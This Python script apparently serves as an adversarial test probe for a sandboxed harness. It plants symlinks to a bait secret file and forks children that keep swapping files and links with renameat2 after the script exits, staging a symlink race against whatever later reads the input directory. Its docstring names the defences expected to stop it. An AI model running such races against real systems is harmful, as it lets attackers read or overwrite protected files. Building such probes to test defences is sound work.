"""Exchanges files and directories with links, round and round, in children that go on behind its end.

Stopped by: stop between runs, collector, private root
"""

import ctypes
import json
import os
import time

AT_FDCWD, RENAME_EXCHANGE = -100, 2
libc = ctypes.CDLL(None, use_errno=True)
work = os.environ["INPUT_DIR"]
secret = json.loads(os.environ["BAIT"])["secret_file"]
for number in range(8):
    with open(f"{work}/{number}.txt", "w") as file:
        file.write("mine")
    os.symlink(secret, f"{work}/{number}.link")
    os.mkdir(f"{work}/{number}")
    with open(f"{work}/{number}/secret", "w") as file:
        file.write("mine")
    os.symlink(os.path.dirname(secret), f"{work}/{number}.place")
for number in range(8):
    if os.fork():
        continue
    pairs = [
        (f"{work}/{number}.txt", f"{work}/{number}.link"),
        (f"{work}/{number}", f"{work}/{number}.place"),
    ]
    deadline = time.monotonic() + 1
    while time.monotonic() < deadline:
        for one, other in pairs:
            libc.renameat2(AT_FDCWD, one.encode(), AT_FDCWD, other.encode(), RENAME_EXCHANGE)
    os._exit(0)
time.sleep(0.2)
print("tried")
